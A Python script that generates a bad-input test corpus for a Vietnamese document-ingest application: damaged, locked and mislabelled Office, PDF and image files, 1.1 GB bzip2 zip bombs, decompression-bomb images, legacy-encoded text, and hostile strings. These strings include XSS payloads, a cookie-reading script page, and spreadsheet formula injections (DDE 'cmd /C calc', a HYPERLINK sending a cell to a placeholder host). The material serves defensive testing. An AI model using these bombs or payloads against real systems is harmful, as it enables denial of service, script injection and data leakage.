"""Write the bad-input corpus next to this file: small files that are damaged, locked, lying
about their type, zip bombs, gigantic images, legacy-encoded text, and the hostile strings the
tests put into names and cells. Deterministic: the same bytes on every run (fixed zip dates, no
randomness), so the output is committed and a change shows in review.

    .venv/bin/python tests/data/bad/make_corpus.py

README.md beside it says what each file exercises. The zip bombs take a few seconds each: their
members really inflate to 1.1 GB (bzip2, the zip method with the highest ratio).
"""

import io
import json
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

HERE = Path(__file__).resolve().parent
ZIP_DATE = (2024, 1, 1, 0, 0, 0)
BOMB_BYTES = 1100 * 1024 * 1024  # what each bomb member inflates to
CHUNK = 1024 * 1024

# --- Valid small files (the good twins the bad ones are made from) ---------------------------

CONTENT_TYPES_XLSX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS_XLSX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Trang 1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr">'
        f"<is><t>Dòng {row}: số liệu báo cáo</t></is></c>"
        f'<c r="B{row}"><v>{row * 7}</v></c></row>'
        for row in range(1, 41)
    )
    + "</sheetData></worksheet>"
)
CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS_DOCX = ROOT_RELS_XLSX.replace("xl/workbook.xml", "word/document.xml")
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    + "".join(
        f"<w:p><w:r><w:t>Đoạn {number}: các cơ quan, đơn vị tổ chức phong trào thi đua.</w:t>"
        "</w:r></w:p>"
        for number in range(1, 41)
    )
    + "</w:body></w:document>"
)


def zip_of(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def valid_xlsx() -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES_XLSX.encode()),
            ("_rels/.rels", ROOT_RELS_XLSX.encode()),
            ("xl/workbook.xml", WORKBOOK.encode()),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
            ("xl/worksheets/sheet1.xml", SHEET.encode()),
        ]
    )


def valid_docx() -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES_DOCX.encode()),
            ("_rels/.rels", ROOT_RELS_DOCX.encode()),
            ("word/document.xml", DOCUMENT.encode()),
        ]
    )


def valid_pdf(lines: int = 30) -> bytes:
    """A one-page PDF with a text line per row and a correct cross-reference table."""
    text = "\n".join(
        f"BT /F1 11 Tf 56 {790 - 22 * row} Td (Muc {row + 1}: bao cao so ket phong trao) Tj ET"
        for row in range(lines)
    ).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: int | None = None) -> bytes:
    """A greyscale PNG declaring `width` × `height`; only `rows` rows of pixels are present
    when given (the header is what a decompression bomb lies about)."""
    present = height if rows is None else rows
    raw = b"".join(b"\x00" + bytes([(row * 3) % 256]) * width for row in range(present))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(raw, 9))
        + png_chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int) -> bytes:
    """A small JPEG made by Pillow, its frame header then rewritten to `width` × `height`."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 40)).save(buffer, "JPEG", quality=80)
    data = bytearray(buffer.getvalue())
    position = 2
    while position < len(data):
        marker = data[position + 1]
        (length,) = struct.unpack(">H", data[position + 2 : position + 4])
        if marker in (0xC0, 0xC1, 0xC2):  # start of frame: precision, height, width
            data[position + 5 : position + 9] = struct.pack(">HH", height, width)
            break
        position += 2 + length
    return bytes(data)


# --- Bad files -------------------------------------------------------------------------------


def bomb(members: list[tuple[str, bytes]], bomb_member: str) -> bytes:
    """A package whose `bomb_member` inflates to BOMB_BYTES of zeros (bzip2, a few hundred
    bytes on disk); the other members are real."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
        info = zipfile.ZipInfo(bomb_member, date_time=ZIP_DATE)
        info.compress_type = zipfile.ZIP_BZIP2
        info.file_size = BOMB_BYTES
        with archive.open(info, "w") as stream:
            chunk = bytes(CHUNK)
            for _ in range(BOMB_BYTES // CHUNK):
                stream.write(chunk)
    return buffer.getvalue()


def ole_locked() -> bytes:
    """What Office writes for a password-protected .docx/.xlsx: an OLE compound file holding
    an "EncryptedPackage" stream (header and directory names only)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header += b"\x06\x00" + bytes(10)
    directory = "EncryptionInfo".encode("utf-16-le") + bytes(2)
    directory += "EncryptedPackage".encode("utf-16-le") + bytes(2)
    return (header + bytes(512 - len(header)) + directory).ljust(4096, b"\x00")


def encrypted_pdf() -> bytes:
    """A real PDF locked with a user password ("mat-khau"), RC4 128-bit; pypdf's random file
    identifier is fixed so that the bytes are the same on every run."""
    import pypdf._writer
    from pypdf import PdfWriter

    pypdf._writer.secrets = SimpleNamespace(token_bytes=lambda count: b"\x5a" * count)  # type: ignore[attr-defined]
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Producer": "thidua bad-input corpus"})
    writer.encrypt(user_password="mat-khau", owner_password="chu-so-huu", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- Legacy encodings ------------------------------------------------------------------------

DIRECTIVE = (
    "ỦY BAN NHÂN DÂN TỈNH KON TUM\n"
    "CHỈ THỊ\n"
    "Về việc phát động phong trào thi đua năm 2024\n\n"
    "Để thực hiện thắng lợi các mục tiêu, nhiệm vụ phát triển kinh tế - xã hội năm 2024, "
    "Chủ tịch Ủy ban nhân dân tỉnh yêu cầu các sở, ban, ngành, địa phương tổ chức tốt các "
    "phong trào thi đua yêu nước, phấn đấu hoàn thành vượt mức các chỉ tiêu được giao.\n"
    "1. Thu ngân sách nhà nước trên địa bàn đạt 3.600 tỷ đồng.\n"
    "2. Tỷ lệ hộ nghèo giảm 4% so với năm trước.\n"
)
_TONES = "\u0300\u0301\u0303\u0309\u0323"


def encode_cp1258(text: str) -> bytes:
    """Windows-1258 keeps the tone as a separate combining byte after the letter."""
    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
        out += base.encode("cp1258") + "".join(c for c in parts if c in _TONES).encode("cp1258")
    return bytes(out)


def legacy_encoders() -> dict[str, Callable[[str], bytes]]:
    from thidua.ingest.sources import encode_tcvn3, encode_vni

    return {"tcvn3": encode_tcvn3, "vni": encode_vni, "cp1258": encode_cp1258}


# Text that cells and names receive: as typed with a legacy font (stored as Latin-1 letters),
# and the hostile strings that must come out inert.
NAMES = ["Nguyễn Văn An", "Trần Thị Bích Ngọc", "Hoàn thành vượt mức chỉ tiêu được giao"]
SCRIPTS = [
    "<script>alert('thidua')</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
]
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "＝1+1",
    "\t=1+1",
]


def as_cp1252(data: bytes) -> str:
    """Bytes as Windows shows them in Windows-1252 (its five undefined bytes as Latin-1)."""
    return "".join(bytes([byte]).decode("cp1252", errors="ignore") or chr(byte) for byte in data)


def strings() -> dict[str, object]:
    encoders = legacy_encoders()
    legacy = {
        name: {
            "tcvn3": encoders["tcvn3"](name).decode("latin-1"),
            "vni": encoders["vni"](name).decode("cp1252"),
            "cp1258": encoders["cp1258"](name).decode("latin-1"),
            "utf-8-as-cp1252": as_cp1252(name.encode("utf-8")),
        }
        for name in NAMES
    }
    return {"legacy": legacy, "scripts": SCRIPTS, "formulas": FORMULAS}


# --- The corpus ------------------------------------------------------------------------------


def corpus() -> dict[str, bytes]:
    xlsx, docx, pdf = valid_xlsx(), valid_docx(), valid_pdf()
    xlsx_parts = [
        ("[Content_Types].xml", CONTENT_TYPES_XLSX.encode()),
        ("_rels/.rels", ROOT_RELS_XLSX.encode()),
        ("xl/workbook.xml", WORKBOOK.encode()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
    ]
    docx_parts = [
        ("[Content_Types].xml", CONTENT_TYPES_DOCX.encode()),
        ("_rels/.rels", ROOT_RELS_DOCX.encode()),
    ]
    junk = bytes((index * 73 + 19) % 256 for index in range(3000))
    html = (
        b"<!DOCTYPE html><html><head><title>anh</title></head><body>"
        b"<script>alert(document.cookie)</script></body></html>\n"
    )
    encoders = legacy_encoders()
    files = {
        "good/hop-le.xlsx": xlsx,
        "good/hop-le.docx": docx,
        "good/hop-le.pdf": pdf,
        "good/hop-le.png": png(640, 480),
        "good/hop-le.jpg": jpeg(64, 48),
        "office/khong-phai-zip.xlsx": b"Day khong phai bang tinh, chi la van ban thuan.\n" * 20,
        "office/zip-thieu-workbook.xlsx": zip_of(
            [(name, data) for name, data in xlsx_parts if name != "xl/workbook.xml"]
            + [("xl/worksheets/sheet1.xml", SHEET.encode())]
        ),
        "office/cat-cut.xlsx": xlsx[: len(xlsx) * 3 // 5],
        "office/mat-khau.xlsx": ole_locked(),
        "office/khong-phai-zip.docx": b"Day khong phai tai lieu Word.\n" * 20,
        "office/zip-thieu-document.docx": zip_of(
            [*docx_parts, ("word/styles.xml", b"<w:styles/>")]
        ),
        "office/cat-cut.docx": docx[: len(docx) * 3 // 5],
        "office/mat-khau.docx": ole_locked(),
        "pdf/hong.pdf": b"%PDF-1.7\n" + junk,
        "pdf/cat-cut.pdf": pdf[: len(pdf) * 11 // 20],
        "pdf/mat-khau.pdf": encrypted_pdf(),
        "image/khong-lo-40000.png": png(40_000, 40_000, rows=2),
        "image/khong-lo-40000.jpg": jpeg(40_000, 40_000),
        "image/lon-12000x10000.png": png(12_000, 10_000, rows=2),
        "image/html.png": html,
        "image/html.jpg": html,
        "image/hong.png": png(640, 480)[:300],
        "lies/pdf-that.docx": pdf,
        "lies/pdf-that.xlsx": pdf,
        "lies/docx-that.pdf": docx,
        "lies/xlsx-that.docx": xlsx,
        "lies/docx-that.xlsx": docx,
        "lies/png-that.jpg": png(640, 480),
        "lies/jpg-that.png": jpeg(64, 48),
        "lies/exe-that.pdf": b"MZ\x90\x00" + junk,
        "lies/pdf-that.txt": pdf,
        "lies/html-that.pdf": html,
        "text/chi-thi-utf8.txt": DIRECTIVE.encode("utf-8"),
        "text/chi-thi-tcvn3.txt": encoders["tcvn3"](DIRECTIVE),
        "text/chi-thi-vni.txt": encoders["vni"](DIRECTIVE),
        "text/chi-thi-cp1258.txt": encoders["cp1258"](DIRECTIVE),
        "text/tieng-phap-latin1.txt": (
            "Décret relatif à l'émulation : les préfectures organisent chaque année des "
            "concours récompensant les meilleures réalisations.\n"
        ).encode("latin-1")
        * 5,
        "strings.json": (
            json.dumps(strings(), ensure_ascii=False, indent=2, sort_keys=True) + "\n"
        ).encode(),
    }
    files["office/bom-nen.xlsx"] = bomb(xlsx_parts, "xl/worksheets/sheet1.xml")
    files["office/bom-nen.docx"] = bomb(docx_parts, "word/document.xml")
    return files


def main() -> None:
    import os
    import sys

    sys.path.insert(0, str(HERE.parents[2]))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "thidua.settings_test")
    for relative, data in sorted(corpus().items()):
        path = HERE / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"{len(data):>9,} B  {relative}")


if __name__ == "__main__":
    main()
